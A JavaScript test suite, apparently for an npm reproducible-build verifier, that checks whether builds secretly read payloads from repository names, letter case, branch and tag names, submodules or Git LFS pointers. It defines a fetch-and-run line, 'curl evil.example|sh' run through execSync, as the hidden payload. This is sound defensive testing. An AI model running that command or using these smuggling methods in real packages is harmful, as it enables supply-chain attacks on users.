// What a publisher chooses after the commit, and a script of the commit could read a program from:
// the registry's spelling of the repository, the names of branches and tags, which of many files
// are packed as the commit has them, and which of many submodules are there.

import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { assertNotReproduced, attack, findingOf, manifest, setUp } from './kit.mjs';

setUp();

const EVIL = "require('child_process').execSync('curl evil.example|sh')";
const args = ['--timeout', '60'];
const CODED = Buffer.from(EVIL).toString('base64url');

const own = (id, more = {}) => manifest(id, '1.0.0', { repository: { type: 'git', url: `git+https://github.com/kit/${id}.git` }, ...more });
const built = (id) => own(id, { scripts: { build: 'node build.js' }, files: ['dist'] });
/** A script that writes `dist/a.js`; `text` is JavaScript. */
const making = (text) => `const f = require('fs'), p = require('path');\nf.mkdirSync('dist', { recursive: true });\nf.writeFileSync('dist/a.js', ${text});\n`;
const CONFIG = "(/url = (.*)/.exec(f.readFileSync('.git/config', 'utf8')) || [])[1]";

/**
 * A package that `repository` has, at the repository's old name `old` for the registry if there is
 * one, and that has `dist` as what its build makes.
 */
async function named(world, { id, script, dist, old, spelled, history }) {
  const files = { 'package.json': built(id), 'build.js': script };
  const { c } = await world.host.add(`kit/${old ?? id}`, { commits: [{ label: 'c', files }], tags: { 'v1.0.0': 'c' }, ...history });
  if (old) world.host.rename(`kit/${old}`, `kit/${id}`);
  const address = old ?? spelled;
  const more = address ? { manifest: { repository: { type: 'git', url: `git+https://github.com/kit/${address}.git` } } } : {};
  await world.registry.publish({ files: { 'package.json': built(id), 'dist/a.js': dist }, gitHead: c, ...more });
  return `${id}@1.0.0`;
}

const decoding = (text) => making(`Buffer.from(String(${text}).replace(/.*[/]/, '').replace(/[.]git$/, ''), 'base64url')`);
for (const [how, text] of [['in .git/config', CONFIG], ['as the name of the folder', '__dirname'], ['in the environment', "Object.values(process.env).find((text) => text.includes('${CODED}'))"]]) {
  attack(`a build does not read the old name of a repository ${how}`, async ({ world, id, judge }) => {
    const script = decoding(text.replace('${CODED}', CODED.slice(0, 20)));
    const answer = await judge(await named(world, { id, script, dist: EVIL, old: CODED }), { args });
    assertNotReproduced(answer);
    assert.equal(findingOf(answer, 'repository-spelled-otherwise').severity, 'warning');
  });
}

attack('a build does not read the case of the letters by which the registry names the repository', async ({ world, id, judge }) => {
  const long = `${id}-${'abcdefghijklm'.repeat(5)}`;
  const bits = [...Buffer.from('eval(x)')].flatMap((byte) => [...byte.toString(2).padStart(8, '0')]);
  const spelled = [...long].map((letter, at) => (bits[at - id.length - 1] === '1' ? letter.toUpperCase() : letter)).join('');
  for (const [at, text] of [CONFIG, '__dirname'].entries()) {
    const name = `${at}${long}`;
    const script = making(`(${text}).replace(/.*-/, '').slice(0, 56).replace(/[a-z]/g, '0').replace(/[A-Z]/g, '1').match(/.{8}/g).map((b) => String.fromCharCode(parseInt(b, 2))).join('')`);
    const answer = await judge(await named(world, { id: name, script, dist: 'eval(x)', spelled: `${at}${spelled}` }), { args });
    assertNotReproduced(answer);
    assert.equal(findingOf(answer, 'repository-spelled-otherwise').severity, 'info');
  }
});

attack('a build that writes the name of its folder and its repository is identical by the commit’s own spelling', async ({ world, id, judge }) => {
  const script = making(`p.basename(__dirname) + ' ' + ${CONFIG}`);
  for (const [at, more] of [{}, { old: `${id}-old` }, { spelled: `2${id}`.toUpperCase() }].entries()) {
    const name = `${at}${id}`;
    const answer = await judge(await named(world, { id: name, script, dist: `${name} https://github.com/kit/${name}`, ...more }), { args });
    assert.equal(answer.verdict, 'identical', JSON.stringify(answer.attempts, null, 1));
    assert.deepEqual(answer.findings.map(({ code, severity }) => [code, severity]), [[], [['repository-spelled-otherwise', 'warning']], [['repository-spelled-otherwise', 'info']]][at]);
  }
});

const REF = "(['heads', 'tags'].flatMap((kind) => f.readdirSync('.git/refs/' + kind)).find((name) => name.length > 20) || 'none').replace(/^.*[+]/, '')";
for (const [kind, history] of Object.entries({
  'a branch': { tags: {}, branches: { main: 'c', [CODED]: 'c' } },
  'a branch alone': { tags: {}, branches: { [CODED]: 'c' } },
  'a tag of no version': { tags: { [CODED]: 'c' }, branches: { main: 'c' } },
  'a tag with words behind the version': { tags: { [`v1.0.0+${CODED}`]: 'c' }, branches: { main: 'c' } },
})) {
  attack(`a build does not read the name of ${kind}`, async ({ world, id, judge }) => {
    const answer = await judge(await named(world, { id, script: making(`Buffer.from(${REF}, 'base64url')`), dist: EVIL, history }), { args });
    assertNotReproduced(answer);
  });
}

attack('a build has the version’s tag, in its usual ways, and one branch', async ({ world, id, judge }) => {
  const script = making("['heads', 'tags'].flatMap((kind) => f.readdirSync('.git/refs/' + kind, { recursive: true })).join()");
  for (const [at, [history, seen]] of [
    [{ tags: { 'v1.0.0': 'c' } }, 'v1.0.0'],
    [{ tags: { [`1${id}@1.0.0`]: 'c' } }, `1${id}@1.0.0`],
    [{ tags: { 'release-1.0.0': 'c' } }, 'release-1.0.0'],
    [{ tags: { v1_0_0: 'c' } }, 'v1.0.0'],
    [{ tags: {}, branches: { trunk: 'c' } }, 'main'],
    [{ tags: {}, branches: { master: 'c' } }, 'master'],
  ].entries()) {
    const answer = await judge(await named(world, { id: `${at}${id}`, script, dist: seen, history }), { args });
    assert.equal(answer.verdict, 'identical', `${seen}: ${JSON.stringify(answer.comparison)}`);
  }
});

/** A package whose build changes all of `paths`; published as built are those that `isBuilt` names. */
async function changing(world, { id, paths, isBuilt }) {
  const json = own(id, { scripts: { build: 'node build.js' }, files: [...paths, 'dist'] });
  const outputs = ['a', 'b', 'c', 'd', 'e'].map((name) => `dist/${name}.js`);
  const script = `${making("'1\\n'")}for (const path of ${JSON.stringify([...paths, ...outputs])}) f.writeFileSync(path, 'built\\n');\n`;
  const committed = Object.fromEntries(paths.map((path) => [path, 'committed\n']));
  const { c } = await world.host.add(`kit/${id}`, { commits: [{ label: 'c', files: { 'package.json': json, 'build.js': script, ...committed } }], tags: { 'v1.0.0': 'c' } });
  const published = Object.fromEntries([...paths, ...outputs].map((path) => [path, outputs.includes(path) || isBuilt(path) ? 'built\n' : 'committed\n']));
  await world.registry.publish({ files: { 'package.json': json, ...published }, gitHead: c });
  return `${id}@1.0.0`;
}

const numbered = (count, ending) => Array.from({ length: count }, (_, at) => `data/${String(at).padStart(3, '0')}${ending}`);
for (const [label, ending, isBuilt] of [
  ['scripts', '.js', (path) => createHash('md5').update(path).digest()[0] % 3 > 0],
  ['documents', '.md', (path) => createHash('md5').update(path).digest()[0] % 3 > 0],
  ['all scripts but one', '.js', (path) => !path.endsWith('7.js')],
]) {
  attack(`which files that a build changed are packed as committed is no choice of the publisher’s: ${label}`, async ({ world, id, judge }) => {
    assertNotReproduced(await judge(await changing(world, { id, paths: numbered(12, ending), isBuilt }), { args }));
  });
}

attack('all files that a build changed may be those of the commit, or all documents, and that is told', async ({ world, id, judge }) => {
  for (const [at, [paths, isBuilt, shown]] of [
    [['README.md', 'lib.js'], () => false, 'README.md, lib.js'],
    [['README.md', 'docs/a.md', 'lib.js'], (path) => path.endsWith('.js'), 'README.md, docs/a.md'],
  ].entries()) {
    const answer = await judge(await changing(world, { id: `${at}${id}`, paths, isBuilt }), { args });
    assert.equal(answer.verdict, 'identical', JSON.stringify(answer.comparison));
    const finding = findingOf(answer, 'files-put-back');
    assert.deepEqual([finding.severity, finding.message.includes(shown)], ['info', true], finding.message);
  }
});

/**
 * A package with these submodules, each of one file: `published` of them are in the tarball, and
 * those that `isGone` names are at addresses where nothing is.
 */
async function withSubmodules(world, { id, paths, published, isGone = () => false, json = {} }) {
  const lib = await world.host.add(`kit/${id}-lib`, { commits: [{ label: 'c', files: { 'a.txt': 'a\n' } }] });
  const module = (path) => `[submodule "${path}"]\n\tpath = ${path}\n\turl = https://github.com/kit/${id}-${isGone(path) ? `gone-${path.replace('/', '-')}` : 'lib'}.git\n`;
  const files = { 'package.json': own(id, { main: 'index.js', files: ['index.js', 'm'], ...json }), 'index.js': "for (const name of require('fs').readdirSync('m')) name;\n" };
  const tree = { ...files, '.gitmodules': paths.map(module).join(''), ...Object.fromEntries(paths.map((path) => [path, { submodule: lib.c }])) };
  const { c } = await world.host.add(`kit/${id}`, { commits: [{ label: 'c', files: tree }], tags: { 'v1.0.0': 'c' } });
  await world.registry.publish({ files: { ...files, ...Object.fromEntries(published.map((path) => [`${path}/a.txt`, 'a\n'])) }, gitHead: c });
  return `${id}@1.0.0`;
}

const modules = (count) => Array.from({ length: count }, (_, at) => `m/${String(at).padStart(3, '0')}`);
for (const [label, count, isPublished, isGone] of [
  ['ten of hundreds', 300, (at) => at % 30 === 7, () => false],
  ['half of twenty', 20, (at) => at % 2 === 0, () => false],
  ['those whose hosts have them', 20, (at) => at % 2 === 0, (path) => Number(path.slice(2)) % 2 === 1],
]) {
  attack(`which submodules are there is no choice of the publisher’s: ${label}`, async ({ world, id, judge }) => {
    const paths = modules(count);
    assertNotReproduced(await judge(await withSubmodules(world, { id, paths, published: paths.filter((_, at) => isPublished(at)), isGone }), { args }));
  });
}

attack('a package may have all submodules, or those that its files name, or a few that are gone, which is told', async ({ world, id, judge }) => {
  const paths = modules(5);
  const told = async (name, more) => {
    const answer = await judge(await withSubmodules(world, { id: `${name}${id}`, paths, ...more }), { args });
    assert.equal(answer.verdict, 'identical', `${name} ${JSON.stringify(answer.comparison)}`);
    const decided = answer.attempts.find(({ recipe }) => recipe.tarball);
    return [answer.findings.map(({ code, severity }) => `${code} ${severity}`), (decided.submodules ?? []).map(({ path }) => path)];
  };
  assert.deepEqual(await told('all', { published: paths }), [[], paths]);
  assert.deepEqual(await told('none', { published: [] }), [[], []]);
  assert.deepEqual(await told('some', { published: ['m/001'], json: { files: ['index.js', 'm/001'] } }), [[], ['m/001']]);
  const gone = await told('gone', { published: paths.slice(0, 3), isGone: (path) => path > 'm/002' });
  assert.deepEqual(gone, [['source-incomplete warning', 'source-incomplete warning'], paths.slice(0, 3)]);
});

attack('which Git LFS files are published as pointers is no choice of the publisher’s', async ({ world, id, judge }) => {
  const sound = (at) => Buffer.concat([Buffer.from('RIFF\x0e\0\0\0WAVEdata\x02\0\0\0', 'latin1'), Buffer.from([at, 0xff])]);
  const pointer = (data) => `version https://git-lfs.github.com/spec/v1\noid sha256:${createHash('sha256').update(data).digest('hex')}\nsize ${data.length}\n`;
  const even = (at) => at % 2 === 0;
  for (const [label, isPointer, eol = ''] of [['mixed', even], ['crlf', even, 'crlf'], ['files', () => false], ['pointers', () => true]]) {
    const name = `${label}${id}`;
    const all = Array.from({ length: 8 }, (_, at) => [`s/${at}.bin`, sound(at)]);
    const json = own(name, { files: ['s'] });
    const source = { 'package.json': json, '.gitattributes': `*.bin filter=lfs diff=lfs merge=lfs ${eol ? 'eol=crlf' : '-text'}\n`, ...Object.fromEntries(all.map(([path, data]) => [path, pointer(data)])) };
    const { c } = await world.host.add(`kit/${name}`, { commits: [{ label: 'c', files: source }], tags: { 'v1.0.0': 'c' } });
    await world.registry.publish({ files: { 'package.json': json, ...Object.fromEntries(all.map(([path, data], at) => [path, isPointer(at) ? pointer(data).replaceAll('\n', eol ? '\r\n' : '\n') : data])) }, gitHead: c });
    const answer = await judge(`${name}@1.0.0`, { args });
    if (isPointer === even) assertNotReproduced(answer);
    else assert.equal(answer.verdict, 'identical', `${label} ${JSON.stringify(answer.comparison)}`);
  }
});
